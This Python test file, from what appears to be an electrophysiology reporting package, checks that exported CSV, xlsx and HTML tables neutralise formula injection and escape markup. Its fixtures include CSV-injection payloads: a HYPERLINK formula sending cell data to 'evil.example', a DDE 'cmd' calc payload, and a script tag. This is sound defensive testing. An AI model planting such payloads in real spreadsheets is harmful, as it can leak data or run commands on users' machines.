"""Issue 17 item 5: text from files (channel, file, recipe names) never becomes a live formula
in CSV/xlsx outputs, nor raw markup in HTML; read_table gives the original text back."""

from __future__ import annotations

import csv

import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings, strategies as st

from ephys_correct.report.tables import (
    FORMULA_STARTS,
    neutralize_cell,
    read_table,
    restore_cell,
    write_table,
)

# (a carriage return inside a cell does not survive CSV/xlsx as such; neutralize_cell covers it below)
HOSTILE = ["=1+2", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3",
           "@SUM(A1:A2)", "\t=1", "'=1", "''", "plain", "", "a=b"]


def _frame():
    df = pd.DataFrame({"channel": HOSTILE, "value": [float(i) for i in range(len(HOSTILE))]})
    df["=file"] = "=evil.abf"
    df.attrs = {"source_file": "=HYPERLINK(\"x\")", "ljp_mv": -3.5, "units": {"value": "mV"}}
    return df


def test_xlsx_cells_are_text_not_formulas_and_round_trip(tmp_path):
    p = write_table(_frame(), tmp_path / "t.xlsx")
    wb = openpyxl.load_workbook(p)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r")), cell.value
    wb.close()
    back = read_table(p)
    pd.testing.assert_frame_equal(back, _frame(), check_dtype=False)
    assert back.attrs["source_file"] == "=HYPERLINK(\"x\")" and back.attrs["ljp_mv"] == -3.5


def test_csv_cells_are_inert_and_round_trip(tmp_path):
    p = write_table(_frame(), tmp_path / "t.csv")
    with open(p, newline="", encoding="utf-8") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "'=1+2" in cells and "'=file" in cells
    back = read_table(p)
    pd.testing.assert_frame_equal(back, _frame())


def test_numbers_are_not_touched(tmp_path):
    df = pd.DataFrame({"v": [-70.5, 1.0], "n": [-1, 2]})
    p = write_table(df, tmp_path / "n.csv")
    assert p.read_text().splitlines()[1] == "-70.5,-1"
    pd.testing.assert_frame_equal(read_table(p), df)


def test_html_escapes_markup(tmp_path):
    df = pd.DataFrame({"channel": ["<script>alert(1)</script>"], "v": [1.0]})
    text = write_table(df, tmp_path / "t.html").read_text()
    assert "<script>" not in text and "&lt;script&gt;" in text


@settings(max_examples=80, derandomize=True, deadline=None)
@given(st.text(max_size=8))
def test_neutralize_restore_is_exact_and_inert(s):
    n = neutralize_cell(s)
    assert restore_cell(n) == s
    assert not n.startswith(FORMULA_STARTS[:-1])  # never starts with = + - @ tab CR


@pytest.mark.parametrize("value", [1, 2.5, None, True])
def test_non_text_cells_are_unchanged(value):
    assert neutralize_cell(value) is value and restore_cell(value) is value
